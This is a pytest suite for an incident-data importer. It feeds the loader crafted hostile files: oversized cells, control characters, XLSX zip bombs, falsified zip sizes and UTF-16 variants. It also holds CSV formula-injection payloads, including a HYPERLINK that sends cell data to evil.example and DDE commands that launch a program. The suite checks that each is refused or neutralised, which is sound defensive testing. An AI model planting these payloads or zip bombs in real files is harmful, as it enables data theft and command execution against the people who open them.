"""Files built to hurt the importer: oversized cells and rows, hidden characters, zip bombs,
UTF-16, spreadsheet formulas. Each is refused (or read) with the file, row and column named."""

import csv
import re
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from misper.cli import app
from misper.incidents.frame import write_incidents
from misper.incidents.load import IncidentFileError, import_file, load_incidents
from misper.incidents.profiles import Profile

HEADER = "rid,pid,reported_at,age,missing_from_type,found_at"
ROW = "R{i},C{i},2022-03-05T22:41,15,home,"
EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "compact-export.csv"


def refused(path, **kwargs) -> str:
    with pytest.raises(IncidentFileError) as info:
        load_incidents(path, **kwargs)
    return str(info.value)


def write_rows(path: Path, rows: list[list[str]], encoding="utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def canonical_rows(notes: list[str]) -> list[list[str]]:
    return [HEADER.split(",") + ["notes"]] + [
        ROW.format(i=i).split(",") + [note] for i, note in enumerate(notes, start=1)
    ]


# --- oversized cells and rows -------------------------------------------------------------------


def test_a_cell_at_the_spreadsheet_limit_is_read_and_one_longer_is_refused(tmp_path):
    fits = write_rows(tmp_path / "fits.csv", canonical_rows(["a" * 32_767, "b"]))
    assert load_incidents(fits).frame.notes.str.len().tolist() == [32_767, 1]
    over = write_rows(tmp_path / "over.csv", canonical_rows(["b", "a" * 32_768]))
    text = refused(over)
    assert str(over) in text
    assert "row 3, column notes: the cell is longer than 32,767 characters" in text


def test_a_long_cell_spread_over_many_quoted_lines_is_refused_with_its_column(tmp_path):
    path = write_rows(tmp_path / "lines.csv", canonical_rows(["line\n" * 40_000]))
    assert "row 2, column notes: the cell is longer than 32,767 characters" in refused(path)


def test_a_huge_cell_is_refused_without_reading_it_into_memory(tmp_path):
    source = tmp_path / "huge-cell.csv"
    with source.open("w") as f:
        f.write(HEADER + ",notes\n" + ROW.format(i=1) + ",")
        for _ in range(100):
            f.write("x" * 1_000_000)  # a 100 MB cell; reading it whole took several times that
        f.write("\n")
    code = (
        "import re\n"
        "from misper.incidents.load import IncidentFileError, load_incidents\n"
        "try:\n"
        f"    load_incidents({str(source)!r})\n"
        "    print('accepted')\n"
        "except IncidentFileError as exc:\n"
        "    print(str(exc).splitlines()[1])\n"
        "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    message, peak_kb = done.stdout.strip().splitlines()
    assert message.strip().startswith("row 2, column notes: the cell is longer than 32,767")
    assert int(peak_kb) / 1024 < 300, f"peak {int(peak_kb) / 1024:.0f} MiB"  # ~135 to start


def test_a_row_wider_than_the_limit_is_refused(tmp_path):
    extra = [f"note_{k}" for k in range(40)]
    rows = [HEADER.split(",") + extra, ROW.format(i=1).split(",") + ["y" * 30_000] * 40]
    text = refused(write_rows(tmp_path / "wide.csv", rows))
    assert "row 2: the row is longer than 1,048,576 characters" in text


def test_a_header_with_too_many_columns_is_refused(tmp_path):
    extra = [f"c{k}" for k in range(1_100)]
    rows = [HEADER.split(",") + extra, ROW.format(i=1).split(",") + [""] * 1_100]
    text = refused(write_rows(tmp_path / "many.csv", rows))
    assert "row 1: the header has 1,106 columns; at most 1,024 are read" in text


def test_a_row_with_more_cells_than_the_header_is_named(tmp_path):
    path = tmp_path / "ragged.csv"
    path.write_text(
        "\n".join([HEADER, ROW.format(i=1) + ",", ROW.format(i=2) + ",spare", ROW.format(i=3)])
    )
    text = refused(path)  # an empty cell past the header (a trailing comma) is let go
    assert "row 3: the row has 7 cells but the header 6 columns" in text
    assert "row 2" not in text


def test_an_oversized_xlsx_cell_is_refused_with_its_row_and_column(tmp_path):
    # openpyxl cuts what it writes at 32,767 characters; a crafted sheet holds what it likes
    path = small_workbook(tmp_path / "long.xlsx")
    with zipfile.ZipFile(path) as zin:
        parts = {name: zin.read(name) for name in zin.namelist()}
    cell = b'<c r="G2" t="inlineStr"><is><t>' + b"z" * 40_000 + b"</t></is></c></row>"
    notes = b'<c r="G1" t="inlineStr"><is><t>notes</t></is></c></row>'
    sheet = parts[SHEET].replace(b"</row>", notes, 1)
    parts[SHEET] = sheet[::-1].replace(b"</row>"[::-1], cell[::-1], 1)[::-1]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    assert "row 2, column notes: the cell is longer than 32,767 characters" in refused(path)


# --- hidden characters --------------------------------------------------------------------------


def test_an_embedded_nul_is_refused_not_cut(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_text(
        HEADER + "\nR1,C1\x001,2022-03-05T22:41,15,home,\nR2,C1,2022-03-05T23:41,15,home,\n"
    )
    text = refused(path)
    assert "row 2, column pid: holds the control character U+0000 at character 3" in text
    assert text.count("control character") == 1


def test_other_control_characters_are_refused_but_tab_and_line_breaks_are_kept(tmp_path):
    rows = canonical_rows(["bell\x07", "tab\there", "two\r\nlines", "del\x7f", "c1\x85"])
    text = refused(write_rows(tmp_path / "controls.csv", rows))
    assert "row 2, column notes: holds the control character U+0007 at character 5" in text
    assert "row 5, column notes: holds the control character U+007F" in text
    assert "row 6, column notes: holds the control character U+0085" in text
    assert "row 3" not in text and "row 4" not in text
    kept = write_rows(tmp_path / "kept.csv", canonical_rows(["tab\there", "two\r\nlines"]))
    assert load_incidents(kept).frame.notes.tolist() == ["tab\there", "two\r\nlines"]


def test_control_characters_in_xlsx_and_parquet_are_refused(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(HEADER.split(","))
    book.active.append(["R1", "C1\x7f1", "2022-03-05T22:41", 15, "home", None])
    book.save(tmp_path / "del.xlsx")
    assert "row 2, column pid: holds the control character U+007F" in refused(tmp_path / "del.xlsx")
    frame = load_incidents(write_rows(tmp_path / "ok.csv", canonical_rows(["a", "b"]))).frame
    frame["pid"] = frame.pid.astype(object).where(frame.index != 1, "C\x002").astype("string")
    write_incidents(frame, tmp_path / "nul.parquet")
    # Parquet records count from 1 (no header row); the fast path defers to the full loader
    assert "row 2, column pid: holds the control character U+0000" in refused(
        tmp_path / "nul.parquet"
    )


# --- XLSX bombs ---------------------------------------------------------------------------------


SHEET = "xl/worksheets/sheet1.xml"


def small_workbook(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.append(HEADER.split(","))
    book.active.append(ROW.format(i=1).split(","))
    book.save(path)
    return path


def with_part(source: Path, target: Path, name: str, fill: int, chunk: bytes = b"x") -> Path:
    """Copy a workbook replacing or adding part `name`, written as `fill` bytes streamed."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != name:
                zout.writestr(info.filename, zin.read(info.filename))
        with zout.open(name, "w", force_zip64=True) as part:
            block = chunk * (1_000_000 // len(chunk))
            for _ in range(fill // len(block)):
                part.write(block)
    return target


def test_a_zip_bomb_sheet_is_refused_before_it_is_opened(tmp_path):
    plain = small_workbook(tmp_path / "plain.xlsx")
    head = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
    )
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(head)
            for _ in range(100):
                part.write(b"x" * 1_000_000)
            part.write(b"</t></is></c></row></sheetData></worksheet>")
    assert bomb.stat().st_size < 1_000_000
    text = refused(bomb)
    assert str(bomb) in text
    assert "part xl/worksheets/sheet1.xml expands" in text and "compressed" in text


def test_a_bomb_in_a_part_the_reader_never_uses_is_refused_too(tmp_path):
    bomb = with_part(
        small_workbook(tmp_path / "p.xlsx"), tmp_path / "b.xlsx", "xl/media/a.bin", 60_000_000
    )
    assert "part xl/media/a.bin expands" in refused(bomb)


def test_workbook_limits_on_total_size_and_parts_held_in_memory(tmp_path):
    from misper.incidents.read import UnreadableFile, WorkbookLimits, check_workbook

    path = tmp_path / "real.xlsx"
    book = openpyxl.Workbook()
    for i in range(3_000):
        book.active.append([f"R{i}", f"C{i % 97}", f"2022-03-05T{i % 24:02d}:41", i % 18, "home"])
    book.save(path)
    check_workbook(path)  # an ordinary workbook passes the defaults
    sheet_size = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml").file_size
    with pytest.raises(UnreadableFile, match="expands to .* bytes in all; at most 100,000"):
        check_workbook(path, WorkbookLimits(max_uncompressed=100_000))
    with pytest.raises(UnreadableFile, match="xl/theme/theme1.xml expands to .* at most 5,000"):
        check_workbook(path, WorkbookLimits(max_part_in_memory=5_000))
    assert sheet_size > 100_000  # the sheet streams: only the total bounds it


def test_a_zip_that_understates_a_part_is_cut_at_the_stated_size_and_refused(tmp_path):
    # the checks read the sizes a zip declares; zipfile (which openpyxl reads through) never
    # inflates a part beyond its declared size, so a lie ends in a refusal, not in a bomb
    plain = small_workbook(tmp_path / "p.xlsx")
    with zipfile.ZipFile(plain) as zin:
        parts = {name: zin.read(name) for name in zin.namelist()}
    parts[SHEET] = parts[SHEET].replace(b"<sheetData>", b"<sheetData>" + b" " * 50_000_000)
    liar = tmp_path / "liar.xlsx"
    with zipfile.ZipFile(liar, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    data = bytearray(liar.read_bytes())
    entry = next(
        m.start()
        for m in re.finditer(b"PK\x01\x02", bytes(data))
        if data[m.start() + 46 : m.start() + 46 + len(SHEET)] == SHEET.encode()
    )
    struct.pack_into("<I", data, entry + 24, 500)  # the central directory's uncompressed size
    liar.write_bytes(bytes(data))
    assert "not a readable XLSX workbook" in refused(liar)


def test_a_sheet_claiming_every_column_reads_only_the_columns_it_has(tmp_path):
    path = small_workbook(tmp_path / "dims.xlsx")
    with zipfile.ZipFile(path) as zin:
        parts = {name: zin.read(name) for name in zin.namelist()}
    parts[SHEET] = re.sub(
        rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[SHEET]
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    frame = load_incidents(path).frame
    assert [c for c in frame.columns if c.startswith("column_")] == []


# --- encodings ----------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-8-sig"])
def test_a_file_with_a_byte_order_mark_is_read_in_its_encoding(tmp_path, encoding):
    path = write_rows(tmp_path / "bom.csv", canonical_rows(["Conseil général", "Łódź"]), encoding)
    frame = load_incidents(path).frame
    assert frame.notes.tolist() == ["Conseil général", "Łódź"]
    assert frame.pid.tolist() == ["C1", "C2"]


def test_utf16_from_excel_with_tabs_reads_through_a_profile(tmp_path):
    text = pd.read_csv(EXAMPLE, encoding="cp1252", dtype=str, keep_default_na=False)
    path = tmp_path / "unicode-text.csv"
    text.to_csv(path, sep="\t", index=False, encoding="utf-16")
    profile = Profile.model_validate({**_compact_profile(), "file": {"delimiter": "\t"}})
    assert (
        load_incidents(path, profile=profile).frame.rid.tolist()
        == load_incidents(EXAMPLE, profile="compact").frame.rid.tolist()
    )


def _compact_profile() -> dict:
    import yaml

    from misper.incidents.profiles import PACKAGED

    data = yaml.safe_load((PACKAGED / "compact.yaml").read_text(encoding="utf-8"))
    data.pop("file", None)
    return data


def test_utf16_under_a_profile_that_forces_another_encoding_is_named(tmp_path):
    text = EXAMPLE.read_text(encoding="cp1252")
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-16")
    message = refused(path, profile="compact")  # compact.yaml sets encoding cp1252
    assert "the file is UTF-16 (it starts with a byte-order mark)" in message
    assert "save it as UTF-8 or set file.encoding in the profile" in message
    assert "not in the file" not in message


def test_utf16_without_a_byte_order_mark_is_named(tmp_path):
    path = tmp_path / "le.csv"
    path.write_bytes(("\n".join([HEADER, ROW.format(i=1)]) + "\n").encode("utf-16-le"))
    message = refused(path)
    assert "the file looks like UTF-16 text without a byte-order mark" in message
    assert "control character" not in message
    profile = Profile(name="le", columns={}, file={"encoding": "utf-16-le"})
    assert load_incidents(path, profile=profile).frame.pid.tolist() == ["C1"]


def test_an_unknown_encoding_in_a_profile_is_refused_when_loaded():
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="unknown encoding"):
        Profile(name="x", columns={}, file={"encoding": "klingon-8"})
    with pytest.raises(ValidationError, match="one character"):
        Profile(name="x", columns={}, file={"delimiter": ";;"})


# --- spreadsheet formulas -----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A1",
]


def test_formula_like_text_is_kept_and_named_in_a_warning(tmp_path):
    notes = ["ran to a friend's", *FORMULAS, "-1", "+44 1234"]
    result = load_incidents(write_rows(tmp_path / "f.csv", canonical_rows(notes)))
    assert result.frame.notes.tolist() == notes  # legitimate text may look like this: kept
    warning = next(w for w in result.warnings if "formula" in w)
    assert warning.startswith("4 cell(s) look like spreadsheet formulas")
    assert (
        "row 3 column notes, row 4 column notes, row 5 column notes, row 7 column notes" in warning
    )


def test_import_to_csv_neutralises_formulas_in_cells_and_header(tmp_path):
    rows = canonical_rows(FORMULAS)
    rows[0].append("=1+2")  # a column named like a formula, kept as an extra
    for row in rows[1:]:
        row.append("fine")
    out = tmp_path / "out.csv"
    summary = import_file(write_rows(tmp_path / "f.csv", rows), out)
    assert any("formula" in w for w in summary.warnings)
    written = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert written[0][-1] == "'=1+2"
    notes = written[0].index("notes")
    assert [r[notes] for r in written[1:]] == ["'" + f for f in FORMULAS]
    assert written[1][written[0].index("pid")] == "C1"


def test_import_to_parquet_keeps_the_text_as_it_was(tmp_path):
    out = tmp_path / "out.parquet"
    import_file(write_rows(tmp_path / "f.csv", canonical_rows(FORMULAS)), out)
    assert pq.read_table(out).column("notes").to_pylist() == FORMULAS


def test_cli_import_shows_the_formula_warning(tmp_path):
    source = write_rows(tmp_path / "f.csv", canonical_rows(FORMULAS[:1]))
    result = CliRunner().invoke(app, ["import", str(source), "--out", str(tmp_path / "o.csv")])
    assert result.exit_code == 0, result.output
    assert "look like spreadsheet formulas" in result.output
    assert "row 2 column notes" in result.output


def test_every_canonical_csv_misper_writes_is_neutralised(tmp_path):
    frame = load_incidents(write_rows(tmp_path / "f.csv", canonical_rows(FORMULAS[:1]))).frame
    write_incidents(frame, tmp_path / "w.csv")
    assert "'=HYPERLINK" in (tmp_path / "w.csv").read_text(encoding="utf-8")


def test_the_parquet_fast_path_warns_of_formulas_as_the_full_loader_does(tmp_path):
    frame = load_incidents(write_rows(tmp_path / "f.csv", canonical_rows(FORMULAS))).frame
    path = write_incidents(frame, tmp_path / "f.parquet")
    fast, full = load_incidents(path), load_incidents(path, fast=False)
    assert fast.warnings == full.warnings
    assert any(
        "row 1 column notes, row 2 column notes, row 3 column notes" in w for w in fast.warnings
    )
